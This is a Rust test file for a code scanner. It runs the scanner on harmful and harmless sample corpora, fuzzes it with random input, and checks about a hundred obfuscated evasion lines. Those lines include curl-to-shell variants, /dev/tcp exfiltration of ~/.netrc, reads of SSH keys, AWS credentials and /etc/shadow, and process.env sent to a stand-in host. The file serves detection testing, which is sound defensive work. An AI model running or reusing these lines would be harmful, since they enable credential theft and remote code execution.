//! The scanner on a corpus of harmful and harmless samples, with the rates printed, and on garbage.
#![allow(clippy::unwrap_used)] // a test may; the setting for that does not see helpers of integration tests

use std::collections::BTreeMap;
use std::path::Path;
use std::time::{Duration, Instant};

use proptest::prelude::*;
use ringfence_scan::{Declared, Language, Scan, Verdict, scan};

const LANGUAGES: [Language; 4] = [Language::Python, Language::JavaScript, Language::TypeScript, Language::Bash];

fn language(path: &Path) -> Language {
    match path.extension().and_then(|extension| extension.to_str()) {
        Some("py") => Language::Python,
        Some("js" | "mjs") => Language::JavaScript,
        Some("ts") => Language::TypeScript,
        Some("sh") => Language::Bash,
        other => panic!("{other:?}"),
    }
}

fn corpus(folder: &str) -> Vec<(String, Language, Scan)> {
    let declared = Declared { hosts: vec!["api.example.org".into()], ..Declared::default() };
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/scan").join(folder);
    let mut scans: Vec<_> = std::fs::read_dir(directory)
        .unwrap()
        .map(|entry| {
            let path = entry.unwrap().path();
            let source = std::fs::read(&path).unwrap();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            (name, language(&path), scan(language(&path), &source, &declared))
        })
        .collect();
    scans.sort_by(|a, b| a.0.cmp(&b.0));
    scans
}

/// Prints how many of each verdict there are, by language, and the findings of those that `show`.
fn rates(folder: &str, scans: &[(String, Language, Scan)], show: impl Fn(Verdict) -> bool) {
    let mut table: BTreeMap<String, BTreeMap<Verdict, usize>> = BTreeMap::new();
    for (name, language, scan) in scans {
        for key in [format!("{language:?}"), "all".to_owned()] {
            *table.entry(key).or_default().entry(scan.verdict).or_default() += 1;
        }
        if show(scan.verdict) {
            let rules: Vec<String> = scan.findings.iter().map(|f| format!("{}:{}", f.rule, f.line)).collect();
            println!("  {name}: {:?} {}", scan.verdict, rules.join(" "));
        }
    }
    for (language, verdicts) in table {
        let total: usize = verdicts.values().sum();
        let parts: Vec<String> =
            verdicts.iter().map(|(verdict, n)| format!("{verdict:?} {n} ({}%)", n * 100 / total)).collect();
        println!("{folder} {language}: {total} samples: {}", parts.join(", "));
    }
}

#[test]
fn every_harmful_sample_is_found() {
    let scans = corpus("harmful");
    rates("harmful", &scans, |verdict| verdict != Verdict::Dangerous);
    assert!(scans.len() >= 60);
    let missed: Vec<&String> = scans.iter().filter(|(_, _, s)| s.verdict == Verdict::Clean).map(|(n, ..)| n).collect();
    assert!(missed.is_empty(), "missed: {missed:?}");
}

#[test]
fn no_harmless_sample_is_called_dangerous() {
    let scans = corpus("harmless");
    rates("harmless", &scans, |verdict| verdict != Verdict::Clean);
    assert!(scans.len() >= 60);
    let wrong: Vec<&String> =
        scans.iter().filter(|(_, _, s)| s.verdict == Verdict::Dangerous).map(|(n, ..)| n).collect();
    assert!(wrong.is_empty(), "wrongly dangerous: {wrong:?}");
}

fn any_language() -> impl Strategy<Value = Language> {
    proptest::sample::select(LANGUAGES.to_vec())
}

/// Pieces of real code, so that what is made of them gets past the first token.
fn pieces() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        "import os as o\n",
        "getattr(o, 'sys'+'tem')",
        "exec(",
        "eval(",
        "base64.b64decode(",
        "'aGk='",
        ")",
        "(",
        "[",
        "]",
        "{",
        "}",
        "\n",
        "    ",
        "def f(x):\n",
        "return x",
        "lambda x: ",
        "f'{",
        "}'",
        "require('",
        "child_process",
        "')",
        "=> ",
        "`${",
        "}`",
        "const {a: b} = ",
        "process.env",
        "$(",
        "${x:-",
        "| base64 -d | sh",
        "<<EOF\n",
        "EOF\n",
        "; ",
        "&& ",
        "if ",
        "then ",
        "fi ",
        "\"",
        "'",
        "\\x41",
        "\u{202e}",
        "\u{0}",
        "for i in ",
        "while True:\n",
        "x = x + x\n",
        "x = [x, x]\n",
        "x.y.z",
        "^",
        "[::-1]",
        "class A(B):\n",
        "@",
        "import ",
        "from os import *\n",
        "curl https://a.example/",
        "rm -rf ",
        "/",
        "~",
        "\u{e0041}",
        "𝘦𝘷𝘢𝘭",
        "case x in ",
        "esac",
        "function ",
        "async ",
        "await ",
        "0x",
        "9999999999999999999",
    ];
    proptest::collection::vec(proptest::sample::select(PIECES.to_vec()), 0..120).prop_map(|pieces| pieces.concat())
}

fn in_time(language: Language, source: &[u8]) -> Scan {
    let start = Instant::now();
    let scan = scan(language, source, &Declared::default());
    assert!(start.elapsed() < Duration::from_secs(20), "{language:?}: {:?}", start.elapsed());
    scan
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn bytes_neither_panic_nor_hang(language in any_language(), source in proptest::collection::vec(any::<u8>(), 0..2000)) {
        in_time(language, &source);
    }

    #[test]
    fn pieces_neither_panic_nor_hang(language in any_language(), source in pieces()) {
        let scan = in_time(language, source.as_bytes());
        for finding in &scan.findings {
            prop_assert!(finding.line >= 1 && finding.line <= source.lines().count().max(1) + 1);
            prop_assert!(finding.excerpt.chars().all(|c| !c.is_control()));
        }
    }
}

#[test]
fn deep_and_huge_sources_end() {
    let deep = 50_000;
    let table: Vec<(Language, String)> = vec![
        (Language::Python, "(".repeat(deep) + &")".repeat(deep)),
        (Language::Python, "[".repeat(deep) + &"]".repeat(deep)),
        (Language::Python, "f(".repeat(deep) + "1" + &")".repeat(deep)),
        (Language::Python, format!("x = {}", vec!["'a'"; deep].join(" + "))),
        (Language::Python, format!("x{}", ".y".repeat(deep))),
        (Language::Python, format!("x{}", "[0]".repeat(deep))),
        (Language::Python, "x = x + x\n".repeat(deep)),
        (Language::Python, "x = [x, x]\n".repeat(deep)),
        (Language::Python, "lambda: ".repeat(deep)),
        (Language::Python, format!("exec({})", "\"exec(".repeat(1000))),
        (Language::JavaScript, "{".repeat(deep) + &"}".repeat(deep)),
        (Language::JavaScript, "[".repeat(deep)),
        (Language::JavaScript, "a=>".repeat(deep)),
        (Language::JavaScript, format!("x = {}", vec!["'a'"; deep].join(" + "))),
        (Language::TypeScript, "a<".repeat(deep)),
        (Language::TypeScript, format!("type A = {}", "B<".repeat(deep))),
        (Language::Bash, "$(".repeat(deep)),
        (Language::Bash, "(".repeat(deep) + &")".repeat(deep)),
        (Language::Bash, "a | ".repeat(deep) + "b"),
        (Language::Bash, "x=$x$x\n".repeat(deep)),
        (Language::Bash, "<<A\n".repeat(2000)),
        (Language::Python, "os.system('x')\n".repeat(200_000)),
        (Language::JavaScript, "\0".repeat(2 << 20)),
    ];
    for (language, source) in table {
        let start = Instant::now();
        let scan = in_time(language, source.as_bytes());
        assert!(scan.findings.len() <= 200);
        println!(
            "{language:?} {:?}…: {:?}, {:?}",
            source.chars().take(12).collect::<String>(),
            scan.verdict,
            start.elapsed()
        );
    }
}

/// A flood of small findings does not hide a large one, and a verdict of a source that was not read in full is not `clean`.
#[test]
fn nothing_is_hidden_by_size() {
    let flood =
        "import os\n".to_owned() + &"os.getenv(x)\n".repeat(5_000) + "exec(__import__('base64').b64decode('aWQ='))\n";
    let scanned = in_time(Language::Python, flood.as_bytes());
    assert_eq!(scanned.verdict, Verdict::Dangerous);
    assert!(scanned.truncated);
    let long = "x = 1\n".repeat(1 << 18) + "import os\nos.system('id')\n";
    assert_ne!(in_time(Language::Python, long.as_bytes()).verdict, Verdict::Clean);
}

/// What people write, and what attackers do: each has exactly this verdict.
#[test]
fn verdicts_are_as_said() {
    let mut wrong = Vec::new();
    for case in include_str!("scan/verdicts.txt").split("\n### ").skip(1) {
        let (head, source) = case.split_once('\n').unwrap();
        let (extension, verdict) = head.split_once(' ').unwrap();
        let language = language(Path::new(&format!("x.{extension}")));
        let declared = Declared { hosts: vec!["api.example.org".into()], ..Declared::default() };
        let scan = scan(language, source.as_bytes(), &declared);
        if format!("{:?}", scan.verdict).to_lowercase() != verdict {
            let rules: Vec<&str> = scan.findings.iter().map(|f| f.rule.as_str()).collect();
            wrong.push(format!("{:?}, not {verdict}: {source:?} {rules:?}", scan.verdict));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Ways around the rules, a line each: none may be clean.
#[test]
fn evasions_are_seen() {
    use Language::{Bash, JavaScript, Python};
    const LINES: &[(Language, &str)] = &[
        (Python, "import importlib\nm = importlib.import_module(name='os')\nm.system('id')"),
        (Python, "from os import system as s\nlist(map(s, ['id']))"),
        (Python, "f = vars(__import__('os'))['system']\nf('id')"),
        (Python, "import os\nos.__getattribute__('system')('id')"),
        (Python, "class A:\n    run = staticmethod(__import__('os').system)\nA.run('id')"),
        (Python, "(lambda g: g['__builtins__']['exec']('x'))(globals())"),
        (Python, "import subprocess\np = subprocess\nq = p\nq.run(['id'])"),
        (Python, "__builtins__.__import__('os').system('id')"),
        (Python, "[__import__][0]('os').system('id')"),
        (Python, "(e := eval)('1')"),
        (Python, "import builtins as b\nb.__dict__['exec']('pass')"),
        (Python, "import operator, os\noperator.attrgetter('system')(os)('id')"),
        (Python, "import functools, os\nfunctools.partial(os.system, 'id')()"),
        (Python, "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()"),
        (Python, "import ctypes\nctypes.CDLL(None).system(b'id')"),
        (Python, "exec(open('plugin.txt').read())"),
        (Python, "getattr(__import__('o' 's'), 'system')('id')"),
        (Python, "import os\nx = [os.system]\nx[0]('id')"),
        (Python, "import os\nd = {'run': os.popen}\nd['run']('id')"),
        (Python, "import os\ndef f():\n    return os\nf().system('id')"),
        (Python, "import os\ndef g(m):\n    m.system('id')\ng(os)"),
        (Python, "try:\n    import os as q\nexcept ImportError:\n    q = None\nq.system('id')"),
        (Python, "from subprocess import *\nPopen(['id'])"),
        (Python, "import os; os.system\\\n('id')"),
        (Python, "import sys\nsys.modules['os'].system('id')"),
        (Python, "import sys\nsys.modules.get('os').system('id')"),
        (Python, "@eval\n@'__import__(\"os\").system(\"id\")'.format\nclass _: pass"),
        (Python, "import os\nmatch 1:\n    case 1:\n        os.system('id')"),
        (Python, "print(f'{__import__(\"os\").system(\"id\")}')"),
        (Python, "import pickle as p\np.loads(data)"),
        (Python, "import timeit\ntimeit.timeit('__import__(\"os\").system(\"id\")', number=1)"),
        (Python, "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'))"),
        (Python, "open('/etc/' + 'shadow')"),
        (Python, "open('../../../../etc/passwd')"),
        (Python, "import builtins\ngetattr(builtins, chr(101)+'val')('1')"),
        (Python, "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()"),
        (Python, "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))"),
        (Python, "import requests as r\nr.post('https://x.example', data=open('in.txt').read())"),
        (Python, "import http.client\nhttp.client.HTTPSConnection('x.example').request('GET', '/')"),
        (Python, "import socket\nwith socket.socket() as s:\n    s.connect(('10.0.0.1', 80))"),
        (JavaScript, "const r = require; r('child_process').exec('id')"),
        (JavaScript, "import('child_' + 'process').then(m => m.exec('id'))"),
        (JavaScript, "Reflect.get(require('child_process'), 'exec')('id')"),
        (JavaScript, "process['binding']('fs')"),
        (JavaScript, "this.constructor.constructor('return process')()"),
        (JavaScript, "Object.getPrototypeOf(async function(){}).constructor('return 1')()"),
        (JavaScript, "const {exec} = await import('node:child_process'); exec('id')"),
        (JavaScript, "require('module').createRequire(__filename)('child_process').exec('id')"),
        (JavaScript, "let e = window.eval; e('1')"),
        (JavaScript, "eval.call(null, x)"),
        (JavaScript, "eval?.('1')"),
        (JavaScript, "new (require('child_process').ChildProcess)()"),
        (JavaScript, "require?.('child_process')?.exec('id')"),
        (JavaScript, "import cp from 'child_process'\ncp.execSync`id`"),
        (JavaScript, "import * as cp from 'child_process'\nconst f = cp['exec']\nf('id')"),
        (JavaScript, "const {env} = process; fetch('https://x.example', {body: JSON.stringify(env)})"),
        (JavaScript, "\\u0065val('1')"),
        (JavaScript, "Function.prototype.constructor('return 1')()"),
        (JavaScript, "[].map.call('x', eval)"),
        (JavaScript, "const a = {b: require('child_process')}; a.b.exec('id')"),
        (
            JavaScript,
            "module.exports = class { run() { return require('child_process') } }; new module.exports().run().exec('id')",
        ),
        (JavaScript, "const fs = require('fs'); fs.promises.readFile('/etc/shadow')"),
        (
            JavaScript,
            "var s = document.createElement('script'); s.src = 'https://x.example/a.js'; document.body.appendChild(s); eval(s)",
        ),
        (Bash, "c''url https://x.example/a | sh"),
        (Bash, "c\\url https://x.example/a | s\\h"),
        (Bash, "bash <(curl -s https://x.example/a)"),
        (Bash, "bash -c \"$(curl -s https://x.example/a)\""),
        (Bash, ". /dev/stdin <<< \"$(curl -s https://x.example/a)\""),
        (Bash, "curl https://x.example/a | tee x | sh"),
        (Bash, "curl https://x.example/a > x; bash x"),
        (Bash, "env -i bash -c 'curl https://x.example/a | sh'"),
        (Bash, "busybox wget -O- https://x.example/a | busybox sh"),
        (Bash, "find . -exec sh -c 'curl https://x.example/a | sh' \\;"),
        (Bash, "f() { curl https://x.example/a | sh; }; f"),
        (Bash, "trap 'curl https://x.example/a|sh' EXIT"),
        (Bash, "exec 3<>/dev/tcp/10.0.0.1/80; cat <&3"),
        (Bash, "echo aWQK | base64 -d | sudo bash"),
        (Bash, "bash -s < <(curl https://x.example/a)"),
        (Bash, "/usr/bin/cu?l https://x.example/a"),
        (Bash, "$(which curl) https://x.example/a"),
        (Bash, "x=\"rm -rf /\"; $x"),
        (Bash, "x='rm -rf ~'; eval $x"),
        (Bash, "echo 'id' | at now"),
        (Bash, "(curl -s https://x.example/a) | (sh)"),
        (Bash, "{ curl -s https://x.example/a; } | { sh; }"),
        (Bash, "if true; then curl -s https://x.example/a | sh; fi"),
        (Bash, "while read l; do eval \"$l\"; done < cmds"),
        (Bash, "curl -s https://x.example/a | python3"),
        (Bash, "xargs -I{} sh -c {} < cmds"),
        (Bash, "cat ~/.netrc > /dev/tcp/x.example/80"),
        (Bash, "coproc nc 10.0.0.1 4444"),
        (Bash, "cp ~/.ssh/id_rsa ."),
        (Bash, "cd ~/.ssh && tar cf /tmp/a.tar ."),
        (Bash, "node -e \"require('child_process').exec('id')\""),
        (Bash, "declare -x LD_PRELOAD=/tmp/a.so"),
        (Bash, "printf '\\143\\165\\162\\154 https://x.example' | sh"),
    ];
    let mut clean = Vec::new();
    for (language, source) in LINES {
        let scan = in_time(*language, source.as_bytes());
        let rules: Vec<&str> = scan.findings.iter().map(|f| f.rule.as_str()).collect();
        println!("{:?} {source:?}: {}", scan.verdict, rules.join(" "));
        if scan.verdict == Verdict::Clean {
            clean.push(source);
        }
    }
    println!("{} evasions", LINES.len());
    assert!(clean.is_empty(), "not seen: {clean:#?}");
}
